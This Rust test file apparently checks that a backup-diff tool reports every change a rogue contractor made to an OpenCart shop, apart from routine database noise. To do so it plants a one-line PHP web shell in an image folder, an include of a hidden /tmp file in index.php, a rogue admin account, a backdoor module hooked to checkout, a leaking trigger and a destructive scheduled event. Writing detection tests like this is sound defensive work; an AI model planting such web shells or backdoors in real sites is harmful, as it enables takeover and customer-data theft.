//! A contractor's work on a shop, and the noise of a day around it: all of the work is told, and nothing else.

use std::fs;

use backstock_testbed::ServerKind;
use serde_json::Value;

use super::harness::Scene;
use super::restore_shop::{backup, scene, sql};

/// What the demo shop lacks of OpenCart, and what the edits change.
pub(crate) const BEFORE: &[&str] = &[
    "CREATE TABLE `oc_user_group` (user_group_id int NOT NULL AUTO_INCREMENT, name varchar(64), permission text, PRIMARY KEY (user_group_id))",
    "INSERT INTO `oc_user_group` (name, permission) VALUES ('Administrator', '{\"access\":[\"catalog/product\"]}'), \
     ('Packer', '{\"access\":[\"sale/order\"],\"modify\":[]}')",
    "CREATE TABLE `oc_cron` (cron_id int NOT NULL AUTO_INCREMENT, code varchar(128), cycle varchar(12), action text, \
     status tinyint(1), date_added datetime, date_modified datetime, PRIMARY KEY (cron_id))",
    "INSERT INTO `oc_cron` (code, cycle, action, status, date_added, date_modified) VALUES \
     ('currency', 'day', 'cron/currency', 1, '2026-01-01', '2026-01-01')",
    "INSERT INTO `oc_setting` (store_id, code, `key`, value) VALUES (0, 'payment_cod', 'payment_cod_total', '0.01'), \
     (0, 'shipping_flat', 'shipping_flat_cost', '5.00'), (0, 'config', 'config_mail_alert_email', 'owner@lamps.example'), \
     (0, 'module_banner', 'module_banner_status', '1'), (0, 'config', 'config_mail_smtp_password', 'first secret'), \
     (0, 'feed', 'feed_last_run', '1767225600')",
];

/// The contractor's edits in the database: ten of the twelve.
const EDITS: &[&str] = &[
    "INSERT INTO `oc_user` (username, password, email, status) VALUES ('support', '$2y$10$planted', 'support@elsewhere.example', 1)",
    "UPDATE `oc_user_group` SET permission='{\"access\":[\"sale/order\",\"setting/setting\"],\"modify\":[]}' WHERE name='Packer'",
    "UPDATE `oc_setting` SET value='shop@elsewhere.example' WHERE `key`='config_mail_alert_email'",
    "INSERT INTO `oc_extension` (extension, type, code) VALUES ('backdoor', 'module', 'backdoor')",
    "INSERT INTO `oc_event` (code, `trigger`, action, status, sort_order) VALUES \
     ('tracker', 'catalog/controller/checkout/confirm/before', 'extension/backdoor/send', 1, 0)",
    "INSERT INTO `oc_cron` (code, cycle, action, status, date_added, date_modified) VALUES \
     ('sync', 'hour', 'extension/backdoor/sync', 1, '2026-02-02', '2026-02-02')",
    "UPDATE `oc_setting` SET value='250.00' WHERE `key`='payment_cod_total'",
    "UPDATE `oc_setting` SET value='9.90' WHERE `key`='shipping_flat_cost'",
    "CREATE TRIGGER `oc_leak` AFTER INSERT ON `oc_address` FOR EACH ROW SET @leaked = NEW.city",
    "CREATE EVENT `oc_call_home` ON SCHEDULE EVERY 1 DAY STARTS '2035-01-01 00:00:00' DISABLE DO DELETE FROM `oc_cart`",
];

/// What a day does by itself.
const NOISE: &[&str] = &[
    "INSERT INTO `oc_session` VALUES ('fresh', 'x', NOW())",
    "INSERT INTO `oc_user_login` (user_id, ip, date_added) VALUES (1, '10.1.1.1', NOW())",
    "UPDATE `oc_product_viewed` SET viewed = viewed + 1",
    "UPDATE `oc_statistics` SET value = value + 1",
    "INSERT INTO `oc_customer_online` VALUES ('10.1.1.1', 0, '/', '', NOW())",
    "UPDATE `oc_cron` SET date_modified = NOW() WHERE code = 'currency'",
    "UPDATE `oc_setting` SET value = '1767312000' WHERE `key` = 'feed_last_run'",
];

/// Saves settings the way the shop does: what was there goes, and comes back with other numbers.
const SAVED_ANEW: &[&str] = &[
    "CREATE TEMPORARY TABLE kept AS SELECT * FROM `oc_setting` WHERE code = 'config'",
    "DELETE FROM `oc_setting` WHERE code = 'config'",
    "INSERT INTO `oc_setting` (store_id, code, `key`, value, serialized) SELECT store_id, code, `key`, value, serialized FROM kept",
];

/// All that the edits come to.
const EXPECTED: [&str; 12] = [
    "file-added image/catalog/thumbs.php",
    "file-changed index.php",
    "object-added event oc_call_home",
    "object-added trigger oc_leak",
    "row-added administrators oc_user support",
    "row-added hooks oc_event tracker",
    "row-added modules oc_extension backdoor",
    "row-added scheduled-jobs oc_cron sync",
    "row-changed carriers oc_setting shipping_flat_cost",
    "row-changed payments oc_setting payment_cod_total",
    "row-changed roles oc_user_group Packer",
    "row-changed settings oc_setting config_mail_alert_email",
];

/// Each difference in a few words.
pub(crate) fn told(document: &Value) -> Vec<String> {
    let line = |difference: &Value| {
        let words = ["difference", "group", "kind", "table", "path", "name", "label"];
        let words = words.iter().filter_map(|word| difference[*word].as_str()).filter(|word| *word != "file");
        words.collect::<Vec<_>>().join(" ")
    };
    let mut told: Vec<String> = document["differences"].as_array().unwrap().iter().map(line).collect();
    told.sort();
    told
}

/// The names of the differences.
fn items(document: &Value) -> Vec<String> {
    let differences = document["differences"].as_array().unwrap().iter();
    let mut items: Vec<String> = differences.map(|one| one["item"].as_str().unwrap().to_owned()).collect();
    items.sort();
    items
}

pub(crate) fn plant(scene: &Scene) {
    let root = scene.shop.root();
    sql(scene, EDITS);
    fs::write(root.join("image/catalog/thumbs.php"), "<?php @eval($_POST['x']);").unwrap();
    let index = fs::read_to_string(root.join("index.php")).unwrap();
    fs::write(root.join("index.php"), format!("{index}\n@include '/tmp/.x';\n")).unwrap();
    sql(scene, NOISE);
    sql(scene, SAVED_ANEW);
    fs::create_dir_all(root.join("image/cache")).unwrap();
    fs::write(root.join("image/cache/lamp-100x100.jpg"), "made again").unwrap();
    fs::write(scene.shop.storage().join("cache/cache.product.7"), "made again").unwrap();
}

fn a_contractors_work_is_told(kind: ServerKind) {
    let Some(scene) = scene(kind, 5) else { return };
    sql(&scene, BEFORE);
    let first = backup(&scene, &["--no-default-exclusions"]);
    plant(&scene);
    let live = scene.place.run(&["diff", &first, "live", "--json"]).expect(0).json();
    let second = backup(&scene, &["--no-default-exclusions"]);
    let compare = |more: &[&str]| {
        let mut arguments = vec!["diff", first.as_str(), second.as_str()];
        arguments.extend_from_slice(more);
        scene.place.run(&arguments).expect(0)
    };
    let document = compare(&["--json"]).json();
    assert_eq!(told(&document), EXPECTED, "{document:#}");
    assert_eq!(told(&live), EXPECTED, "{live:#}");
    // What is the same thing on both looks has the same name, and no two things have one.
    assert_eq!(items(&live), items(&document));
    let mut names = items(&document);
    names.dedup();
    assert_eq!(names.len(), EXPECTED.len(), "{names:?}");
    let counts = &document["summary"]["database"];
    assert_eq!((&counts["rows_added"], &counts["rows_changed"]), (&4.into(), &4.into()));
    let text = compare(&["--all"]).stdout;
    for words in [
        "value: \"5.00\" -> \"9.90\"",
        "+ administrator support (oc_user: ",
        "password = (a secret, not shown)",
        "value: \"owner@lamps.example\" -> \"shop@elsewhere.example\"",
        "! image/catalog/thumbs.php",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
    let page = scene.place.folder().join("page.html");
    compare(&["--html", page.to_str().unwrap()]);
    let html = fs::read_to_string(&page).unwrap();
    for words in [
        "<h2>payment: 1</h2>",
        "value: &quot;5.00&quot; -&gt; &quot;9.90&quot;",
        "class=\"alarm\">PROGRAMS AMONG",
    ] {
        assert!(html.contains(words), "{words}: {html}");
    }
    assert!(!html.contains("<script") && !html.contains("http://") && !html.contains("src="), "{html}");
    // A page is never written over another file.
    let again = ["diff", first.as_str(), second.as_str(), "--html", page.to_str().unwrap()];
    scene.place.run(&again).expect_error(2, &["page.html"]);
    let everything = format!("{text}{document}{live}{html}");
    assert!(!everything.contains("planted") && !everything.contains("first secret"), "{everything}");
}

#[test]
fn a_contractors_work_is_told_and_nothing_else_on_mariadb() {
    a_contractors_work_is_told(ServerKind::MariaDb);
}

#[test]
fn a_contractors_work_is_told_and_nothing_else_on_mysql() {
    a_contractors_work_is_told(ServerKind::MySql);
}
